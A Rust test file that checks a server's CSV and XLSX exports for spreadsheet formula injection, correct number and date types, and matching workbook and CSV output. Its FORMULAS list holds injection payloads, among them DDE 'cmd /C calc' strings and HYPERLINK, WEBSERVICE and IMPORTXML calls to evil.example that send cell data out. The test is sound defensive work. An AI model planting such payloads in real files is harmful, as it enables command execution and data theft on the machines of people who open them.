//! Tables that leave the register: read back by another program, no cell of them begins a formula.

use calamine::{Data, Reader as _, Xlsx, open_workbook_from_rs};
use daodi::search::corpus::csv_rows;
use jiff::civil::date;
use server::exports::{Cell, Column, ExportError, Table};
use std::io::Cursor;
use tests::app::NOW;
use tests::one_app;

/// Texts that a spreadsheet would calculate, call or send somewhere.
const FORMULAS: [&str; 34] = [
    "=1+1",
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"点此\")",
    "=cmd|' /C calc'!A0",
    "=DDE(\"cmd\",\"/C calc\",\"x\")",
    "=WEBSERVICE(\"http://evil.example\")",
    "=IMPORTXML(\"http://evil.example\",\"//a\")",
    "+1+1",
    "+cmd|' /C calc'!A0",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\r\n=1+1",
    " =1+1",
    "\u{3000}=1+1",
    "\u{a0}=1+1",
    "\u{feff}=1+1",
    "\u{200b}=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "=",
    "-",
    "+86 371 0000 0000",
    "-信阳",
    "=1\";=2,=3",
    "=A1\u{0}",
    "=\"a\"&\"b\"",
    "{=1+1}\t=2",
    ";=1+1",
];

fn table(texts: &[&str]) -> Table {
    let mut table =
        Table::new("=标题", vec![Column::new("=heading", 20), Column::new("数", 8), Column::new("日期", 12)]);
    for (text, n) in texts.iter().zip(-5..) {
        table.rows.push(vec![Cell::text(*text), Cell::Whole(n), Cell::Day(date(2026, 11, 20))]);
    }
    table
}

fn sheet(bytes: &[u8]) -> (Xlsx<Cursor<&[u8]>>, String) {
    let book: Xlsx<_> = open_workbook_from_rs(Cursor::new(bytes)).unwrap();
    let name = book.sheet_names()[0].clone();
    (book, name)
}

fn assert_inert(cell: &str) {
    let seen = cell.trim_start_matches(|c: char| c.is_whitespace() || c.is_control() || "\u{200b}\u{feff}".contains(c));
    assert!(!seen.starts_with(['=', '+', '-', '@', '＝', '＋', '－', '＠']), "{cell:?}");
    assert!(!cell.starts_with(['\t', '\r', '\n']), "{cell:?}");
}

#[test]
fn p27_no_cell_of_an_export_begins_a_formula() {
    let table = table(&FORMULAS);
    let csv = String::from_utf8(table.to_csv().unwrap()).unwrap();
    let rows = csv_rows(&csv).unwrap();
    assert_eq!(rows.len(), FORMULAS.len() + 1);
    assert_inert(rows[0][0].trim_start_matches('\u{feff}'));
    for (row, text) in rows.iter().skip(1).zip(FORMULAS) {
        assert_inert(&row[0]);
        assert!(row[0] == text || row[0] == format!("'{text}"), "{text:?} became {:?}", row[0]);
    }
    // Where a spreadsheet splits at semicolons or tabs instead, no piece begins one either: texts stand in quotes.
    for separator in [';', '\t'] {
        let mut quoted = false;
        let body = csv.split_once("\r\n").unwrap().1;
        let mut before = '\n';
        for c in body.chars() {
            quoted ^= c == '"';
            let begins = !quoted && (before == separator || matches!(before, '\n' | '\r'));
            assert!(!(begins && "=+@".contains(c)), "{c} begins a cell where {separator:?} parts them");
            before = c;
        }
    }

    let book = table.to_xlsx(NOW * 1_000_000).unwrap();
    let (mut book, name) = sheet(&book);
    assert_inert(&name);
    assert!(book.worksheet_formula(&name).unwrap().used_cells().all(|(.., formula)| formula.is_empty()));
    let range = book.worksheet_range(&name).unwrap();
    assert_eq!(range.get_size(), (FORMULAS.len() + 1, 3));
    for (row, text) in range.rows().skip(1).zip(FORMULAS) {
        let Data::String(cell) = &row[0] else { panic!("{text:?} became {:?}", row[0]) };
        assert_inert(cell);
        // The format has no place for a carriage return or a character that is none; the rest is as it was.
        let plain = |text: &str| text.replace(['\r', '\u{0}'], "").replace("_x0000_", "");
        assert!(plain(cell) == plain(text) || plain(cell) == plain(&format!("'{text}")), "{text:?} became {cell:?}");
    }
}

#[test]
fn numbers_and_days_stay_numbers_and_days() {
    let columns = ["a", "b", "c", "d", "e", "f"].map(|heading| Column::new(heading, 10)).to_vec();
    let mut table = Table::new("表", columns);
    let row = |cells: [Cell; 6]| cells.to_vec();
    table.rows.push(row([
        Cell::Whole(-42),
        Cell::Number(-0.5),
        Cell::Day(date(2026, 2, 28)),
        Cell::Empty,
        Cell::Whole(i64::MAX),
        Cell::text("007"),
    ]));
    table.rows.push(row([
        Cell::Number(f64::NAN),
        Cell::Number(1e300),
        Cell::Day(date(1850, 1, 1)),
        None::<&str>.into(),
        Cell::Whole(999_999_999_999_999),
        Cell::text("长".repeat(40_000)),
    ]));
    let csv = csv_rows(&String::from_utf8(table.to_csv().unwrap()).unwrap()).unwrap();
    assert_eq!(csv[1], ["-42", "-0.5", "2026-02-28", "", "9223372036854775807", "007"]);
    assert_eq!((csv[2][0].as_str(), csv[2][2].as_str(), csv[2][5].chars().count()), ("", "1850-01-01", 40_000));
    let bytes = table.to_xlsx(NOW * 1_000_000).unwrap();
    let (mut book, name) = sheet(&bytes);
    let range = book.worksheet_range(&name).unwrap();
    let cell = |row: u32, column: u32| range.get_value((row, column)).unwrap();
    assert_eq!((cell(1, 0), cell(1, 1)), (&Data::Float(-42.0), &Data::Float(-0.5)));
    let Data::DateTime(day) = cell(1, 2) else { panic!("{:?}", cell(1, 2)) };
    assert_eq!(day.as_f64(), 46_081.0, "2026-02-28 by the spreadsheets' count");
    assert_eq!(cell(1, 3), &Data::Empty);
    assert_eq!(cell(1, 4), &Data::String("9223372036854775807".to_owned()), "no digit is lost");
    assert_eq!(cell(1, 5), &Data::String("007".to_owned()));
    assert_eq!(cell(2, 0), &Data::Empty, "what is no number");
    assert_eq!(cell(2, 2), &Data::String("1850-01-01".to_owned()));
    assert_eq!(cell(2, 4), &Data::Float(999_999_999_999_999.0));
    let Data::String(long) = cell(2, 5) else { panic!("{:?}", cell(2, 5)) };
    assert!(long.ends_with('…') && long.encode_utf16().count() < 32_767, "{}", long.len());
}

#[test]
fn a_table_must_have_its_shape() {
    let mut uneven = table(&["x"]);
    uneven.rows.push(vec![Cell::Empty]);
    assert_eq!(uneven.to_csv(), Err(ExportError::Shape(1)));
    assert_eq!(uneven.to_xlsx(0), Err(ExportError::Shape(1)));
    let wide = Table::new("", vec![Column::new("x", 1); 16_385]);
    assert_eq!(wide.to_xlsx(0), Err(ExportError::TooLarge));
    let empty = Table::new("", Vec::new());
    assert!(empty.to_csv().is_ok() && empty.to_xlsx(0).is_ok());
}

one_app! {
    async fn p27_the_workbook_of_a_search_holds_what_its_csv_holds(app: TestApp) {
        for search in ["", "q=茶&sort=name", "q=不存在的东西zzz"] {
            let reply = app.get(&format!("/products.xlsx?{search}")).await.expect(200);
            let kind = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet";
            assert_eq!(reply.header("content-type"), kind);
            assert_eq!(reply.header("content-disposition"), "attachment; filename=\"daodi-products.xlsx\"");
            let (mut book, name) = sheet(&reply.body);
            let range = book.worksheet_range(&name).unwrap();
            let csv = csv_rows(app.get(&format!("/products.csv?{search}")).await.expect(200).text()).unwrap();
            assert_eq!(range.height(), csv.len(), "{search}");
            for (row, line) in range.rows().zip(&csv) {
                for (cell, text) in row.iter().zip(line) {
                    assert_eq!(cell.to_string(), text.trim_start_matches('\u{feff}'), "{search}");
                }
            }
        }
        let _page = app.get("/products.xlsx?category=none").await.expect(400);
        // Who made it is not said, and when is the server's own time.
        let reply = app.get("/products.xlsx").await.expect(200);
        let core = part(&reply.body, "docProps/core.xml");
        assert!(core.contains("2026-11-20T02:00:00Z"), "{core}");
        assert!(core.contains("<dc:creator></dc:creator>") || core.contains("<dc:creator/>"), "{core}");
        let view = part(&reply.body, "xl/worksheets/sheet1.xml");
        assert!(view.contains("state=\"frozen\"") && view.contains("ySplit=\"1\""), "the heading stays in view");
    }
}

/// A part of a workbook, unpacked.
fn part(book: &[u8], name: &str) -> String {
    use std::io::Read as _;
    let mut archive = zip::ZipArchive::new(Cursor::new(book)).unwrap();
    let mut text = String::new();
    archive.by_name(name).unwrap().read_to_string(&mut text).unwrap();
    text
}
